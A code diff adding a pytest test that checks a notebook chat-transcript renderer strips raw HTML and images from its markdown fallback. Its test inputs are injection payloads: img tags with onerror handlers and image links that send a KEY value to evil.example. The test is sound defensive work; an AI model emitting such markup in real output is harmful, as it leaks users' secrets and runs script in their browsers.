@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import itertools
+import re
+
+import pytest
 
 from glm_nb.chat import Done, TextDelta, ThinkingDelta, ToolCallEvent, ToolResultEvent, Usage
 from glm_nb.render import MIME_TYPE, Transcript, TranscriptBuilder
@@ -79,6 +82,23 @@ def test_markdown_fallback_keeps_code_blocks_verbatim():
     markdown = t._repr_mimebundle_()[0]["text/markdown"]
 
     assert "Use &lt;b>:" in markdown and "```html\n<b>bold</b>\n```" in markdown
+
+
+@pytest.mark.parametrize(
+    "answer",
+    [
+        '<div>\n```\n\n```\n<img src="https://evil.example/leak?d=KEY" onerror="alert(1)">\n```\n',  # a fence moves
+        "<!-- note -->\n    <img src=x onerror=alert(1)>\n",  # indented code after an HTML block
+        "Done. ![status](https://evil.example/pixel.png?d=KEY)\n",  # an image fetches its address
+    ],
+)
+def test_the_markdown_fallback_rendered_with_raw_html_on_holds_no_tag_and_no_image(answer):
+    from markdown_it import MarkdownIt
+
+    _, t = _build([TextDelta(answer), Done("stop", Usage())])
+    rendered = MarkdownIt("commonmark", {"html": True}).render(t._repr_mimebundle_()[0]["text/markdown"])
+    tags = re.findall(r"<([a-z]+)[^>]*>", rendered)  # what a browser would make elements of
+    assert set(tags) <= {"p", "pre", "code", "em", "a"} and not re.search(r"<[a-z][^>]*onerror", rendered), tags
 
 
 def test_json_that_does_not_parse_leaves_a_note_and_no_value():
